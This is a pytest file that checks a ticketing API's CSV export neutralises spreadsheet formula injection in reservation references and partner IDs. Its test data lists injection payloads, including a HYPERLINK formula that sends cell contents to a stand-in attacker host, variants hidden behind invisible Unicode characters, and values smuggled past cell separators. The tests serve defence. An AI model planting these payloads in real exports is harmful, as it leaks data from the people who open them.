"""Nothing in the export is a formula, whatever a spreadsheet takes for one and splits cells at."""

import csv
import re
import sys
import unicodedata

import pytest

from tests.api.exports import EXPORT, exported
from tests.api.partner import PartnerClient
from ticketboss.api.reservation_lists import FORMULA_BEGINNING

FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"Paid")',
    "=1+1",
    "+1",
    "-1",
    "-1+2",
    "@SUM(A1:A9)",
    "=",
    "=\"a\",'b'",
]
# Full-width signs, and what stands before a sign and is not seen.
HIDDEN_FORMULAS = [
    *("＝1+1", "＋1", "－1", "＠SUM(A1)"),
    *(
        " =1",
        "\u00a0=1",
        "\u3000\u2009-1",
        "\ufeff=1",
        "\u200b＝1",
        " \u00ad\u2066+1",
        "\U000e0020@A1",
    ),
]
# Where a cell begins for a spreadsheet that splits at something else than commas.
INNER_FORMULAS = {
    "a;=1+1": "a;'=1+1",
    "a,-1": "a,'-1",
    "a; \u200b=1": "a;' \u200b=1",
    'x";=cmd': "x\";'=cmd",
    '"";=1': '"";\'=1',
    ';""=1': ';""\'=1',
    "a\u2028=1": "a\u2028'=1",
    "'=1": "''=1",
    "=1;+2,,@A": "'=1;'+2,,'@A",
}
HARMLESS = [
    *("PO 4711", "PO-4711", "1=1", "a-b", "a - b", "a; b-c", "1 + 1", "O'Neill", "a@b.example"),
    *('say "hello"', "a,b", ",", '"', "Ä→😀", "a;b", "\u00adPO", "日本－1", "|A0"),
]


SIGN_FIRST = re.compile(r"[\s\u00ad\u200b\u2066\ufeff\U000e0020]*[=+\-@＝＋－＠]")


@pytest.mark.parametrize("reference", [*FORMULAS, *HIDDEN_FORMULAS])
def test_reference_that_is_a_formula_is_made_harmless(
    client: PartnerClient, reference: str
) -> None:
    client.reserve(reference=reference)

    assert [row["reference"] for row in exported(client)] == [f"'{reference}"]


@pytest.mark.parametrize(("reference", "exported_as"), INNER_FORMULAS.items())
def test_reference_that_is_a_formula_for_another_separator_is_made_harmless(
    client: PartnerClient, reference: str, exported_as: str
) -> None:
    client.reserve(reference=reference)

    assert [row["reference"] for row in exported(client)] == [exported_as]


@pytest.mark.parametrize("separator", [";", ","])
def test_whatever_the_separator_no_cell_begins_like_a_formula(
    client: PartnerClient, separator: str
) -> None:
    for reference in [*FORMULAS, *HIDDEN_FORMULAS, *INNER_FORMULAS]:
        client.reserve(1, "-a", reference=reference)

    lines = client.get(EXPORT).text.split("\r\n")
    cells = [cell for line in csv.reader(lines, delimiter=separator) for cell in line]

    assert len(cells) > len(lines)
    assert [cell for cell in cells if SIGN_FIRST.match(cell)] == []


def test_every_character_that_is_not_seen_is_known_as_such() -> None:
    unseen = {"Zs", "Zl", "Zp", "Cf"}
    every = map(chr, range(sys.maxunicode + 1))
    missing = [each for each in every if unicodedata.category(each) in unseen and _is_seen(each)]

    assert missing == []


def _is_seen(character: str) -> bool:
    return FORMULA_BEGINNING.search(f"{character}=1") is None


@pytest.mark.parametrize("reference", HARMLESS)
def test_reference_that_is_none_is_exported_as_it_is(client: PartnerClient, reference: str) -> None:
    client.reserve(reference=reference)

    assert [row["reference"] for row in exported(client)] == [reference]


@pytest.mark.parametrize("partner_id", ["-corp", "-1", "--", "-2:3.4"])
def test_partner_that_is_a_formula_is_made_harmless(client: PartnerClient, partner_id: str) -> None:
    client.reserve(1, partner_id, reference="-1")

    (row,) = exported(client)
    assert (row["partnerId"], row["reference"]) == (f"'{partner_id}", "'-1")


def test_no_cell_of_any_column_begins_like_a_formula(client: PartnerClient) -> None:
    for partner_id, reference in zip(["-a", "a", ":", ".", "_"], FORMULAS, strict=False):
        client.reserve(1, partner_id, reference=reference)
        client.hold(1, partner_id=partner_id, reference=reference)

    cells = [cell for row in exported(client) for cell in row.values() if cell]

    assert {cell[0] for cell in cells if not cell[0].isalnum()} == {"'", ":", ".", "_"}
